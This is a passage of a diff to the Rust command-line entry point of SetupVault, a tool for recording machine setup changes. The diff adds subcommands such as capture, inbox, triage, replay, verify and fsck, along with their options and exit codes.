@@ -1,21 +1,89 @@
 use anyhow::{anyhow, Context, Result};
-use clap::{Parser, Subcommand, ValueEnum};
+use clap::{CommandFactory, Parser, Subcommand, ValueEnum};
 use chrono::Utc;
+use clap_complete::Shell;
+use std::io::{IsTerminal, Write};
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::sync::Arc;
+use std::time::{Duration, Instant};
 use uuid::Uuid;
 
 use sv_core::{
-    DetectedChange, Entry, EntryStatus, EntryType, Rationale, SystemInfo, Tag, VaultRepository,
+    canonical_tags, DetectedChange, Detector, Entry, EntryStatus, EntryType, InboxOrder, Rationale,
+    SystemInfo, Tag, VaultRepository,
 };
-use sv_detectors::{default_detectors, run_detectors};
-use sv_fs::{render_entry_markdown, resolve_vault_path, set_config_path, FsVault};
+use sv_detectors::{
+    all_configured_detectors, all_detectors, check_presence, configured_detectors,
+    custom_detectors, dedupe_by_source_priority, derive_uninstall_cmd, diff_changes,
+    scan_detectors_cached, IgnorePatterns, PresenceCheck,
+};
+use sv_fs::{
+    checksum_sidecar_path, expand_path, load_config, parse_entry_markdown, project_vault_path,
+    render_checksum_sidecar, render_entry_markdown, resolve_vault_path, save_config,
+    set_config_path, verify_checksum_sidecar, FsVault, VaultConfig, VaultLayout, VaultSettings,
+    FRONTMATTER_FIELDS,
+};
+
+/// Shortest refresh interval accepted by `inbox --watch`, so detectors are not hammered.
+const MIN_WATCH_INTERVAL_SECS: u64 = 10;
+/// How often watch mode checks for Ctrl-C while waiting for the next refresh.
+const WATCH_POLL: Duration = Duration::from_millis(200);
+
+const EXIT_CODES_HELP: &str = "Exit codes:
+  0  success
+  1  error (invalid input, storage failure)
+  2  usage error (unknown flag or missing argument)
+  3  no results and --fail-if-empty was set, or no entry to step to with
+     `show --next/--prev/--first/--last`
+  4  the command run by `run` or `verify` failed (its own status is printed on stderr)
+  5  `check` found that the entry is no longer detected
+  6  the requested id was not found";
 
 #[derive(Parser)]
-#[command(name = "sv", version, about = "SetupVault CLI")]
+#[command(name = "sv", version, about = "SetupVault CLI", after_long_help = EXIT_CODES_HELP)]
 struct Cli {
+    /// Suppress confirmations and progress; requested output, warnings, and errors still print.
+    #[arg(short, long, global = true)]
+    quiet: bool,
+    /// Increase log verbosity (-v info, -vv debug, -vvv trace); `RUST_LOG` takes precedence.
+    #[arg(short, long, global = true, action = clap::ArgAction::Count)]
+    verbose: u8,
+    /// Run no detectors this session (refresh and `check` scan nothing), whatever the config.
+    #[arg(long, global = true)]
+    no_detectors: bool,
     #[command(subcommand)]
     command: Option<Command>,
 }
 
+/// Outcome of a CLI command, mapped to the process exit code.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Outcome {
+    /// The command completed successfully.
+    Success,
+    /// The requested id was not found.
+    NotFound,
+    /// The command produced no results and `--fail-if-empty` was set.
+    Empty,
+    /// A script run by `run` exited with this non-zero code; the process exits with 4.
+    ScriptFailed(i32),
+    /// `check` found that the entry's detector no longer reports it.
+    NotDetected,
+}
+
+impl Outcome {
+    /// Process exit code for this outcome.
+    pub fn code(self) -> i32 {
+        match self {
+            Outcome::Success => 0,
+            Outcome::Empty => 3,
+            Outcome::ScriptFailed(_) => 4,
+            Outcome::NotDetected => 5,
+            // Not 2, which clap uses for usage errors.
+            Outcome::NotFound => 6,
+        }
+    }
+}
+
 #[derive(Subcommand)]
 enum Command {
     /// Initialize the vault.
@@ -23,14 +91,42 @@ enum Command {
         /// Optional path to initialize the vault at.
         #[arg(long)]
         path: Option<String>,
+        /// Repoint the config even if it already targets a different existing vault.
+        #[arg(long)]
+        force: bool,
+    },
+    /// Move the vault's data to a new directory and point the config at it.
+    MoveVault {
+        path: String,
+        /// Replace the target if it is a file or a non-empty directory.
+        #[arg(long)]
+        force: bool,
     },
+    /// Point the config at another vault directory without moving data (initializes it if
+    /// missing).
+    SwitchVault { path: String },
     /// Capture a change and require rationale.
     Capture {
         /// Optional title for quick capture.
         title: Option<String>,
-        /// Provide rationale without an interactive prompt.
+        /// Provide rationale without an interactive prompt; optional when the matching
+        /// `entry_templates` item in config has one.
         #[arg(long)]
-        rationale: String,
+        rationale: Option<String>,
+        /// Use a named rationale template from config (`{title}` is substituted).
+        #[arg(long, conflicts_with = "rationale")]
+        rationale_template: Option<String>,
+        /// Create one entry per item in a YAML manifest; `--entry-type` and `--source` are
+        /// defaults for items that omit them.
+        #[arg(
+            long,
+            value_name = "FILE",
+            conflicts_with_all = [
+                "title", "rationale", "rationale_template", "cmd", "tag", "verification",
+                "uninstall_cmd", "script_file",
+            ]
+        )]
+        manifest: Option<String>,
         /// Entry type for capture.
         #[arg(long, value_enum, default_value = "other")]
         entry_type: EntryTypeArg,
@@ -46,37 +142,428 @@ enum Command {
         /// Optional verification guidance.
         #[arg(long)]
         verification: Option<String>,
+        /// Optional command that deliberately removes the change.
+        #[arg(long)]
+        uninstall_cmd: Option<String>,
+        /// Store the contents of this file as the entry's script body.
+        #[arg(long)]
+        script_file: Option<String>,
+    },
+    /// Capture an entry from a raw command, inferring its title, type, and source.
+    Quick {
+        /// Rationale; prompted for when neither this nor a template is given.
+        #[arg(long)]
+        rationale: Option<String>,
+        /// Use a named rationale template from config (`{title}` is substituted).
+        #[arg(long, conflicts_with = "rationale")]
+        rationale_template: Option<String>,
+        /// Tags for the entry.
+        #[arg(long)]
+        tag: Vec<String>,
+        /// Reproduction command, such as `brew install jq`; quoting it is optional.
+        #[arg(required = true, trailing_var_arg = true, allow_hyphen_values = true)]
+        cmd: Vec<String>,
     },
     /// List detected changes waiting for action.
+    #[command(group(
+        clap::ArgGroup::new("inbox_output").args(["count", "group_by", "porcelain"])
+    ))]
     Inbox {
         /// Refresh the inbox by running detectors.
         #[arg(long)]
         refresh: bool,
+        /// Exit with code 3 when the inbox is empty.
+        #[arg(long)]
+        fail_if_empty: bool,
+        /// Only show changes from these sources, and only run their detectors when refreshing (repeatable).
+        #[arg(long = "source", value_name = "NAME")]
+        sources: Vec<String>,
+        /// Ignore cached detector results and rescan.
+        #[arg(long)]
+        no_cache: bool,
+        /// Keep refreshing and print only newly detected changes until Ctrl-C.
+        #[arg(long, conflicts_with = "fail_if_empty")]
+        watch: bool,
+        /// Seconds between refreshes in watch mode.
+        #[arg(
+            long,
+            requires = "watch",
+            default_value_t = 300,
+            value_parser = clap::value_parser!(u64).range(MIN_WATCH_INTERVAL_SECS..)
+        )]
+        interval: u64,
+        /// Only list items queued after this id, for stable pagination across runs.
+        #[arg(long, value_name = "ID", conflicts_with = "watch")]
+        after_id: Option<Uuid>,
+        /// List at most this many items.
+        #[arg(long, conflicts_with = "watch")]
+        limit: Option<usize>,
+        /// Exit with code 6 when the `--after-id` cursor is no longer in the inbox.
+        #[arg(long, requires = "after_id")]
+        strict: bool,
+        /// Print only the number of matching items.
+        #[arg(long, conflicts_with = "watch")]
+        count: bool,
+        /// Print items under a header per source or entry type.
+        #[arg(long, value_name = "FIELD", conflicts_with = "watch")]
+        group_by: Option<GroupBy>,
+        /// Print one stable `key=value` line per item, for scripts.
+        #[arg(long, conflicts_with = "watch")]
+        porcelain: bool,
+        /// With `--count`, print `{"count": N}`; with `--group-by`, an object keyed by group.
+        #[arg(long, requires = "inbox_output", conflicts_with = "porcelain")]
+        json: bool,
+        /// Remove every inbox item without capturing it; asks first unless `--yes`.
+        #[arg(
+            long,
+            conflicts_with_all = [
+                "refresh", "watch", "sources", "after_id", "limit", "inbox_output",
+                "fail_if_empty",
+            ]
+        )]
+        clear: bool,
+        /// With `--clear`, skip the confirmation prompt.
+        #[arg(long, requires = "clear")]
+        yes: bool,
     },
-    /// Approve a detected change by id.
+    /// Approve detected changes by id.
     Approve {
-        id: String,
+        #[arg(required_unless_present = "stdin", conflicts_with = "stdin")]
+        ids: Vec<String>,
+        /// Read ids to approve from stdin (one per line, or a JSON array of ids or objects with `id`).
         #[arg(long)]
-        rationale: String,
+        stdin: bool,
+        #[arg(long, required_unless_present = "rationale_template")]
+        rationale: Option<String>,
+        /// Use a named rationale template from config (`{title}` is substituted).
+        #[arg(long, conflicts_with = "rationale")]
+        rationale_template: Option<String>,
         #[arg(long)]
         tag: Vec<String>,
         #[arg(long)]
         verification: Option<String>,
+        /// Uninstall command; derived from package install commands when omitted.
+        #[arg(long)]
+        uninstall_cmd: Option<String>,
+    },
+    /// Step through the inbox one change at a time in the terminal, without the full TUI.
+    ///
+    /// Each decision is a letter followed by Enter: input is read a line at a time, without
+    /// raw mode, so the terminal keeps its own echo and line editing.
+    Triage,
+    /// Snooze detected changes by id, or every change matching `--query`.
+    Snooze {
+        ids: Vec<String>,
+        /// Act on all inbox items whose title, source, command, or a tag contains this text
+        /// (case-insensitive).
+        #[arg(long)]
+        query: Option<String>,
+    },
+    /// Ignore detected changes by id, or every change matching `--query`.
+    Ignore {
+        ids: Vec<String>,
+        /// Act on all inbox items whose title, source, command, or a tag contains this text
+        /// (case-insensitive).
+        #[arg(long)]
+        query: Option<String>,
+    },
+    /// Restore snoozed changes to the inbox.
+    Unsnooze {
+        #[arg(required = true)]
+        ids: Vec<String>,
+    },
+    /// Manage the snoozed queue in bulk.
+    Snoozed {
+        #[command(subcommand)]
+        action: SnoozedAction,
     },
-    /// Snooze a detected change by id.
-    Snooze { id: String },
-    /// Ignore a detected change by id.
-    Ignore { id: String },
-    /// Restore a snoozed change to the inbox.
-    Unsnooze { id: String },
     /// List entries in the vault.
+    List {
+        /// Only show entries captured on this hostname.
+        #[arg(long)]
+        host: Option<String>,
+        /// Only show entries from this source.
+        #[arg(long)]
+        source: Option<String>,
+        /// Only show entries of this type.
+        #[arg(long = "type", value_name = "TYPE")]
+        entry_type: Option<EntryTypeArg>,
+        /// Only show entries never verified or not verified within this window (e.g. `30d`, `12h`).
+        #[arg(long, value_name = "DURATION", value_parser = parse_stale_window)]
+        stale: Option<chrono::Duration>,
+        /// Sort by when entries were last shown, run, or verified; never-used entries last.
+        #[arg(long)]
+        recent: bool,
+        /// Only show entries whose rationale is under 10 characters or shared by 3 or more entries.
+        #[arg(long)]
+        weak_rationale: bool,
+        /// Exit with code 3 when no entries match.
+        #[arg(long)]
+        fail_if_empty: bool,
+        /// Print only the number of matching entries.
+        #[arg(long)]
+        count: bool,
+        /// With `--count`, print `{"count": N}`.
+        #[arg(long, requires = "count")]
+        json: bool,
+        /// Print one stable `key=value` line per entry, for scripts.
+        #[arg(long, conflicts_with = "count")]
+        porcelain: bool,
+    },
+    /// Print inbox, snoozed, and library counts on one line, for shell prompts.
+    Status {
+        /// Print machine-readable JSON.
+        #[arg(long)]
+        json: bool,
+    },
+    /// Summarize the library by type and source, plus queue sizes and detection dates.
+    Stats {
+        /// Print machine-readable JSON.
+        #[arg(long)]
+        json: bool,
+    },
+    /// Show a single entry by id, or step through entries in detection order.
+    #[command(group(clap::ArgGroup::new("step").args(["next", "prev", "first", "last"])))]
+    Show {
+        /// Entry to show, or to step from with `--next`/`--prev`.
+        #[arg(required_unless_present_any = ["first", "last"])]
+        id: Option<String>,
+        /// `markdown` prints the stored file, `plain` a readable summary, `json` the entry.
+        #[arg(long, value_enum, default_value = "markdown")]
+        format: ShowFormat,
+        /// Show the entry detected after `id` (ties broken by id); exits 3 at the end.
+        #[arg(long)]
+        next: bool,
+        /// Show the entry detected before `id`; exits 3 at the start.
+        #[arg(long)]
+        prev: bool,
+        /// Show the earliest-detected entry.
+        #[arg(long, conflicts_with = "id")]
+        first: bool,
+        /// Show the most recently detected entry.
+        #[arg(long, conflicts_with = "id")]
+        last: bool,
+    },
+    /// Open an entry's file with the system's default application.
+    Open { id: String },
+    /// Run a script entry's stored body and exit with its status.
+    Run { id: String },
+    /// Run an entry's verification command and record when it last passed.
+    Verify { id: String },
+    /// Re-run an entry's detector and report whether its item is still installed.
+    Check { id: String },
+    /// Print, and with `--yes` run, the commands of matching entries to rebuild a machine.
+    Replay {
+        /// Only replay entries from this source.
+        #[arg(long)]
+        source: Option<String>,
+        /// Only replay entries of this type.
+        #[arg(long = "type", value_name = "TYPE")]
+        entry_type: Option<EntryTypeArg>,
+        /// Print the commands without running them (the default without `--yes`).
+        #[arg(long, conflicts_with = "yes")]
+        dry_run: bool,
+        /// Run the commands with the platform shell (`sh -c`, or `cmd /C` on Windows).
+        #[arg(long)]
+        yes: bool,
+        /// Continue after a failed command instead of stopping.
+        #[arg(long, requires = "yes")]
+        keep_going: bool,
+        /// Also replay entries captured on another operating system.
+        #[arg(long)]
+        all_os: bool,
+    },
+    /// Update fields of an existing entry.
+    Edit {
+        id: String,
+        /// New title.
+        #[arg(long)]
+        title: Option<String>,
+        /// New reproduction command.
+        #[arg(long)]
+        cmd: Option<String>,
+        /// New rationale.
+        #[arg(long)]
+        rationale: Option<String>,
+        /// Tag to add (repeatable).
+        #[arg(long)]
+        add_tag: Vec<String>,
+        /// Tag to remove (repeatable); an alias also removes its canonical tag.
+        #[arg(long)]
+        remove_tag: Vec<String>,
+        /// New verification guidance; an empty value clears it.
+        #[arg(long)]
+        verification: Option<String>,
+        /// New uninstall command; an empty value clears it.
+        #[arg(long)]
+        uninstall_cmd: Option<String>,
+        /// New freeform notes; an empty value clears them.
+        #[arg(long, conflicts_with = "notes_file")]
+        notes: Option<String>,
+        /// Read new notes from a file.
+        #[arg(long)]
+        notes_file: Option<String>,
+    },
+    /// Pin an entry to the top of the library.
+    Pin { id: String },
+    /// Unpin a previously pinned entry.
+    Unpin { id: String },
+    /// Search entries by query, best matches first.
+    Search {
+        query: String,
+        /// List at most this many matches.
+        #[arg(long)]
+        limit: Option<usize>,
+        /// Print machine-readable JSON, including each match's score.
+        #[arg(long)]
+        json: bool,
+    },
+    /// Export entries to a directory and report the count.
+    Export {
+        path: String,
+        /// Write a `sha256sum`-style `<file>.sha256` sidecar next to each exported entry, so
+        /// `import --verify` can detect corruption.
+        #[arg(long)]
+        checksums: bool,
+        /// Print each written file on stdout (`-v` only raises the log level).
+        #[arg(long)]
+        list: bool,
+    },
+    /// Import exported entry files from a directory, skipping ids already in the vault.
+    Import {
+        path: String,
+        /// Refuse files whose `.sha256` sidecar is missing or does not match. This catches
+        /// corruption, not deliberate edits: the sidecar can be rewritten alongside the file.
+        #[arg(long)]
+        verify: bool,
+    },
+    /// Create entries for the dependencies in a Brewfile, requirements.txt, or package.json.
+    ImportManifest {
+        file: String,
+        /// Manifest format.
+        #[arg(long, value_enum)]
+        format: ManifestFormat,
+        /// Rationale shared by every created entry; prompted for when omitted.
+        #[arg(long)]
+        rationale: Option<String>,
+        /// Use a named rationale template from config (`{title}` is substituted).
+        #[arg(long, conflicts_with = "rationale")]
+        rationale_template: Option<String>,
+        /// Tags for every created entry.
+        #[arg(long)]
+        tag: Vec<String>,
+    },
+    /// Rewrite entry files in canonical form from their parsed contents.
+    Repair {
+        #[arg(required_unless_present = "all", conflicts_with = "all")]
+        id: Option<String>,
+        /// Repair every entry in the vault.
+        #[arg(long)]
+        all: bool,
+    },
+    /// Rewrite every entry in the current on-disk format after an upgrade.
+    Migrate,
+    /// Move every entry file into the nested or flat layout and save it in config.
+    MigrateLayout {
+        #[arg(value_enum)]
+        layout: LayoutArg,
+    },
+    /// Check the vault for unparseable files, duplicate ids, and invalid state.
+    Fsck {
+        /// Move unparseable entries and invalid state files into `.state/quarantine/`.
+        #[arg(long)]
+        fix: bool,
+        /// Also report entries whose frontmatter has unknown keys (typos, schema drift).
+        #[arg(long)]
+        strict: bool,
+    },
+    /// List detectors with their availability and last reported counts.
+    Detectors {
+        /// Print machine-readable JSON.
+        #[arg(long)]
+        json: bool,
+    },
+    /// Describe the detectors, entry fields, and config fields this build supports.
+    Capabilities {
+        /// Print machine-readable JSON.
+        #[arg(long)]
+        json: bool,
+    },
+    /// Show or change settings in `config.yaml` and the current vault.
+    Config {
+        #[command(subcommand)]
+        action: ConfigAction,
+    },
+    /// Manage the standing exclusion list applied to detected changes.
+    Exclude {
+        #[command(subcommand)]
+        action: ExcludeAction,
+    },
+    /// Tidy tags across the library.
+    Tag {
+        #[command(subcommand)]
+        action: TagAction,
+    },
+    /// Print a shell completion script to stdout.
+    Completions {
+        /// Shell to generate completions for.
+        #[arg(value_enum)]
+        shell: Shell,
+    },
+}
+
+#[derive(Subcommand)]
+enum SnoozedAction {
+    /// List snoozed changes.
+    List,
+    /// Discard every snoozed change.
+    Clear,
+    /// Restore every snoozed change to the inbox.
+    RestoreAll,
+}
+
+#[derive(Subcommand)]
+enum ConfigAction {
+    /// Print every config field and its value.
+    Show,
+    /// Print one field (`rationale_templates.<name>` for a single template).
+    Get { key: String },
+    /// Set one field; lists take comma-separated values and an empty value clears it.
+    Set { key: String, value: String },
+}
+
+#[derive(Subcommand)]
+enum TagAction {
+    /// Replace tag `from` with `to` on every entry that has it.
+    Merge { from: String, to: String },
+}
+
+#[derive(Subcommand)]
+enum ExcludeAction {
+    /// Add a pattern (`pattern` or `source:pattern`; globs or `/regex/`).
+    Add { pattern: String },
+    /// List configured patterns.
     List,
-    /// Show a single entry by id.
-    Show { id: String },
-    /// Search entries by query.
-    Search { query: String },
-    /// Export entries to a directory.
-    Export { path: String },
+}
+
+#[derive(Clone, Copy, ValueEnum)]
+enum GroupBy {
+    Source,
+    Type,
+}
+
+#[derive(Clone, Copy, ValueEnum)]
+enum ManifestFormat {
+    Brewfile,
+    Requirements,
+    PackageJson,
+}
+
+#[derive(Clone, Copy, ValueEnum)]
+enum ShowFormat {
+    Markdown,
+    Plain,
+    Json,
 }
 
 #[derive(Clone, ValueEnum)]
@@ -88,6 +575,21 @@ enum EntryTypeArg {
     Other,
 }
 
+#[derive(Clone, Copy, ValueEnum)]
+enum LayoutArg {
+    Nested,
+    Flat,
+}
+
+impl From<LayoutArg> for VaultLayout {
+    fn from(value: LayoutArg) -> Self {
+        match value {
+            LayoutArg::Nested => VaultLayout::Nested,
+            LayoutArg::Flat => VaultLayout::Flat,
+        }
+    }
+}
+
 impl From<EntryTypeArg> for EntryType {
     fn from(value: EntryTypeArg) -> Self {
         match value {
@@ -100,84 +602,668 @@ impl From<EntryTypeArg> for EntryType {
     }
 }
 
-pub fn run() -> Result<()> {
+pub fn run() -> Result<Outcome> {
     let cli = Cli::parse();
+    let quiet = cli.quiet;
+    let no_detectors = cli.no_detectors;
 
     let command = match cli.command {
         Some(c) => c,
-        None => return sv_tui::run(),
+        None => return sv_tui::run(no_detectors).map(|()| Outcome::Success),
     };
+    init_logging(cli.verbose);
 
-    if let Command::Init { path } = &command {
-        let path = path
-            .clone()
-            .map(std::path::PathBuf::from)
-            .unwrap_or(FsVault::default_path()?);
-        let vault = FsVault::new(path.clone());
-        vault.init().context("failed to initialize vault")?;
-        set_config_path(&path)?;
-        println!("Vault initialized at {}", path.display());
-        return Ok(());
+    if let Command::Completions { shell } = &command {
+        write_completions(*shell, &mut std::io::stdout());
+        return Ok(Outcome::Success);
+    }
+
+    if let Command::Exclude { action } = &command {
+        return exclude(action, quiet);
+    }
+
+    if let Command::Config { action } = &command {
+        return config(action);
     }
 
-    let vault = FsVault::new(resolve_vault_path()?);
+    if let Command::Capabilities { json } = &command {
+        return print_capabilities(*json);
+    }
+
+    if let Command::Init { path, force } = &command {
+        return init_vault(path.clone(), *force, quiet);
+    }
+
+    if let Command::SwitchVault { path } = &command {
+        return switch_vault(path, quiet);
+    }
+
+    let vault = FsVault::open(resolve_vault_path()?).context("failed to load vault settings")?;
     if !vault.exists() {
         return Err(anyhow!(
             "SetupVault is not initialized. Run `setupvault init` to get started."
         ));
     }
+    let config = load_config().context("failed to load config")?;
 
     match command {
+        Command::Capture {
+            manifest: Some(manifest),
+            entry_type,
+            source,
+            ..
+        } => capture_manifest(
+            &vault,
+            &config,
+            &manifest,
+            &entry_type.into(),
+            &source,
+            quiet,
+            &mut std::io::stderr(),
+        ),
         Command::Capture {
             title,
             rationale,
+            rationale_template,
             entry_type,
             source,
             cmd,
             tag,
             verification,
+            uninstall_cmd,
+            script_file,
+            ..
         } => capture_entry(
             &vault,
+            &config,
             title,
-            rationale,
+            (rationale.is_some() || rationale_template.is_some())
+                .then(|| RationaleSource::from_args(rationale, rationale_template)),
             entry_type.into(),
             source,
             cmd,
             tag,
             verification,
+            uninstall_cmd,
+            script_file,
+        ),
+        Command::Quick {
+            rationale,
+            rationale_template,
+            tag,
+            cmd,
+        } => quick_capture(
+            &vault,
+            &config,
+            &quick_command(&cmd),
+            rationale,
+            rationale_template,
+            tag,
+        ),
+        Command::Inbox { clear: true, yes, .. } => clear_inbox(&vault, yes, quiet),
+        Command::Inbox {
+            sources,
+            no_cache,
+            watch: true,
+            interval,
+            ..
+        } => watch_inbox(
+            &vault,
+            &config,
+            &ScanOptions {
+                sources: &sources,
+                no_cache,
+                no_detectors,
+            },
+            Duration::from_secs(interval),
+        ),
+        Command::Inbox {
+            refresh,
+            fail_if_empty,
+            sources,
+            no_cache,
+            after_id,
+            limit,
+            strict,
+            count,
+            group_by,
+            porcelain,
+            json,
+            ..
+        } => inbox(
+            &vault,
+            &config,
+            refresh,
+            fail_if_empty,
+            &ScanOptions {
+                sources: &sources,
+                no_cache,
+                no_detectors,
+            },
+            &InboxPage {
+                after_id,
+                limit,
+                strict,
+                order: config.inbox_order,
+            },
+            match group_by {
+                Some(by) => InboxOutput::Grouped { by, json },
+                None => InboxOutput::List(ListOutput::new(count, json, porcelain)),
+            },
         ),
-        Command::Inbox { refresh } => inbox(&vault, refresh),
         Command::Approve {
-            id,
+            ids,
+            stdin,
             rationale,
+            rationale_template,
             tag,
             verification,
-        } => approve(&vault, &id, rationale, tag, verification),
-        Command::Snooze { id } => snooze(&vault, &id),
-        Command::Ignore { id } => ignore(&vault, &id),
-        Command::Unsnooze { id } => unsnooze(&vault, &id),
-        Command::List => list_entries(&vault),
-        Command::Show { id } => show_entry(&vault, &id),
-        Command::Search { query } => search_entries(&vault, &query),
-        Command::Export { path } => export_entries(&vault, &path),
-        Command::Init { .. } => unreachable!("handled above"),
+            uninstall_cmd,
+        } => {
+            let rationale = RationaleSource::from_args(rationale, rationale_template);
+            match ids.as_slice() {
+                [id] if !stdin => {
+                    let outcome = approve(
+                        &vault,
+                        &config,
+                        id,
+                        rationale.clone(),
+                        tag,
+                        verification,
+                        uninstall_cmd,
+                    )?;
+                    if outcome == Outcome::Success {
+                        warn_weak_rationale(&rationale, 1, &config);
+                    }
+                    Ok(outcome)
+                }
+                _ => {
+                    let ids = if stdin { read_ids(std::io::stdin().lock())? } else { ids };
+                    approve_many(
+                        &vault,
+                        &config,
+                        &ids,
+                        rationale,
+                        tag,
+                        verification,
+                        uninstall_cmd,
+                        quiet,
+                    )
+                }
+            }
+        }
+        Command::Snooze { ids, query } => snooze(&vault, ids, query, quiet),
+        Command::Ignore { ids, query } => ignore(&vault, ids, query, quiet),
+        Command::Unsnooze { ids } => unsnooze(&vault, &ids, quiet),
+        Command::Snoozed { action } => snoozed(&vault, &action, quiet),
+        Command::List {
+            host,
+            source,
+            entry_type,
+            stale,
+            recent,
+            weak_rationale,
+            fail_if_empty,
+            count,
+            json,
+            porcelain,
+        } => list_entries(
+            &vault,
+            &EntryFilter {
+                host,
+                source,
+                entry_type: entry_type.map(Into::into),
+                stale,
+                recent,
+                weak_rationale,
+            },
+            fail_if_empty,
+            ListOutput::new(count, json, porcelain),
+        ),
+        Command::Status { json } => print_status(&vault, json),
+        Command::Stats { json } => print_stats(&vault, json),
+        Command::Show {
+            id,
+            format,
+            next,
+            prev,
+            first,
+            last,
+        } => show_entry(
+            &vault,
+            id.as_deref(),
+            ShowStep::from_flags(next, prev, first, last),
+            format,
+        ),
+        Command::Open { id } => open_entry(&vault, &id),
+        Command::Run { id } => run_script(&vault, &id),
+        Command::Verify { id } => verify_entry(&vault, &id),
+        Command::Replay {
+            source,
+            entry_type,
+            yes,
+            keep_going,
+            all_os,
+            ..
+        } => replay(
+            &vault,
+            &EntryFilter {
+                source,
+                entry_type: entry_type.map(Into::into),
+                ..EntryFilter::default()
+            },
+            (!all_os).then_some(std::env::consts::OS),
+            yes,
+            keep_going,
+        ),
+        Command::Check { id } => check_entry(&vault, &config, &id, no_detectors),
+        Command::Repair { id, .. } => repair(&vault, id.as_deref(), quiet),
+        Command::Migrate => migrate(&vault, quiet),
+        Command::MigrateLayout { layout } => migrate_layout(vault, layout.into(), quiet),
+        Command::Edit {
+            id,
+            title,
+            cmd,
+            rationale,
+            add_tag,
+            remove_tag,
+            verification,
+            uninstall_cmd,
+            notes,
+            notes_file,
+        } => {
+            let notes = match notes_file {
+                Some(path) => Some(
+                    std::fs::read_to_string(expand_path(&path))
+                        .with_context(|| format!("failed to read notes file {path}"))?,
+                ),
+                None => notes,
+            };
+            edit_entry(
+                &vault,
+                &config,
+                &id,
+                title,
+                cmd,
+                rationale,
+                add_tag,
+                remove_tag,
+                verification,
+                uninstall_cmd,
+                notes,
+            )
+        }
+        Command::Detectors { json } => list_detectors(&vault, &config, json),
+        Command::Fsck { fix, strict } => fsck(&vault, fix, strict, quiet),
+        Command::Pin { id } => set_pinned(&vault, &id, true),
+        Command::Unpin { id } => set_pinned(&vault, &id, false),
+        Command::Search { query, limit, json } => search_entries(&vault, &query, limit, json),
+        Command::Export {
+            path,
+            checksums,
+            list,
+        } => export_entries(&vault, &path, checksums, list, quiet).map(|_| Outcome::Success),
+        Command::Import { path, verify } => import_entries(&vault, &config, &path, verify, quiet),
+        Command::ImportManifest {
+            file,
+            format,
+            rationale,
+            rationale_template,
+            tag,
+        } => {
+            let rationale = (rationale.is_some() || rationale_template.is_some())
+                .then(|| RationaleSource::from_args(rationale, rationale_template));
+            import_manifest(&vault, &config, &file, format, rationale, tag, quiet)
+        }
+        Command::MoveVault { path, force } => move_vault(&vault, &path, force, quiet),
+        Command::Triage => triage(&vault, &config),
+        Command::Tag { action: TagAction::Merge { from, to } } => {
+            merge_tag(&vault, &from, &to, quiet)
+        }
+        Command::Init { .. }
+        | Command::SwitchVault { .. }
+        | Command::Completions { .. }
+        | Command::Exclude { .. }
+        | Command::Config { .. }
+        | Command::Capabilities { .. } => unreachable!("handled above"),
+    }
+}
+
+fn merge_tag(vault: &FsVault, from: &str, to: &str, quiet: bool) -> Result<Outcome> {
+    let from = Tag::new(from.trim()).map_err(|err| anyhow!(err.to_string()))?;
+    let to = Tag::new(to.trim()).map_err(|err| anyhow!(err.to_string()))?;
+    if from == to {
+        return Err(anyhow!("cannot merge tag `{}` into itself", from.as_str()));
+    }
+    let merged = vault.merge_tag(&from, &to).context("failed to merge tag")?;
+    if !quiet {
+        if merged == 0 {
+            println!("No entries are tagged `{}`", from.as_str());
+        } else {
+            println!(
+                "Merged tag `{}` into `{}` on {merged} entry(ies)",
+                from.as_str(),
+                to.as_str()
+            );
+        }
+    }
+    Ok(Outcome::Success)
+}
+
+fn exclude(action: &ExcludeAction, quiet: bool) -> Result<Outcome> {
+    let mut config = load_config().context("failed to load config")?;
+    match action {
+        ExcludeAction::Add { pattern } => {
+            IgnorePatterns::compile(std::slice::from_ref(pattern))?;
+            if config.ignore_patterns.contains(pattern) {
+                if !quiet {
+                    println!("Pattern already excluded: {pattern}");
+                }
+                return Ok(Outcome::Success);
+            }
+            config.ignore_patterns.push(pattern.clone());
+            save_config(&config).context("failed to save config")?;
+            if !quiet {
+                println!("Excluded {pattern}");
+            }
+        }
+        ExcludeAction::List => {
+            for pattern in &config.ignore_patterns {
+                println!("{pattern}");
+            }
+        }
+    }
+    Ok(Outcome::Success)
+}
+
+/// Show or change `config.yaml` fields and the current vault's settings.
+fn config(action: &ConfigAction) -> Result<Outcome> {
+    let is_vault_setting = |key: &str| VaultSettings::FIELDS.contains(&key);
+    let mut config = load_config().context("failed to load config")?;
+    match action {
+        ConfigAction::Show => {
+            for key in VaultConfig::FIELDS {
+                println!("{key} = {}", config.get(key)?);
+            }
+            let vault =
+                FsVault::open(resolve_vault_path()?).context("failed to load vault settings")?;
+            if vault.exists() {
+                for key in VaultSettings::FIELDS {
+                    println!("{key} = {}", vault.settings().get(key)?);
+                }
+            }
+        }
+        ConfigAction::Get { key } if is_vault_setting(key) => {
+            println!("{}", settings_vault()?.settings().get(key)?);
+        }
+        ConfigAction::Get { key } => println!("{}", config.get(key)?),
+        ConfigAction::Set { key, value } if is_vault_setting(key) => {
+            let mut vault = settings_vault()?;
+            let mut settings = vault.settings().clone();
+            settings.set(key, value)?;
+            vault
+                .save_settings(settings)
+                .context("failed to save vault settings")?;
+        }
+        ConfigAction::Set { key, value } => {
+            config.set(key, value)?;
+            IgnorePatterns::compile(&config.ignore_patterns)
+                .context("invalid ignore_patterns")?;
+            save_config(&config).context("failed to save config")?;
+        }
+    }
+    Ok(Outcome::Success)
+}
+
+/// The current vault, whose settings `config` reads and writes.
+fn settings_vault() -> Result<FsVault> {
+    let vault = FsVault::open(resolve_vault_path()?).context("failed to load vault settings")?;
+    if !vault.exists() {
+        return Err(anyhow!(
+            "SetupVault is not initialized. Run `setupvault init` to get started."
+        ));
+    }
+    Ok(vault)
+}
+
+/// Assemble the features this build supports from the enums, registry, and field lists.
+fn capabilities() -> serde_json::Value {
+    let config_fields: Vec<_> = VaultConfig::FIELDS.iter().chain(VaultSettings::FIELDS).collect();
+    let mut detectors: Vec<&str> = Vec::new();
+    for detector in all_detectors() {
+        if !detectors.contains(&detector.name()) {
+            detectors.push(detector.name());
+        }
+    }
+    serde_json::json!({
+        "version": env!("CARGO_PKG_VERSION"),
+        "detectors": detectors,
+        "entry_types": EntryType::ALL,
+        "entry_statuses": EntryStatus::ALL,
+        "entry_fields": FRONTMATTER_FIELDS,
+        "config_fields": config_fields,
+    })
+}
+
+fn print_capabilities(json: bool) -> Result<Outcome> {
+    let value = capabilities();
+    if json {
+        println!(
+            "{}",
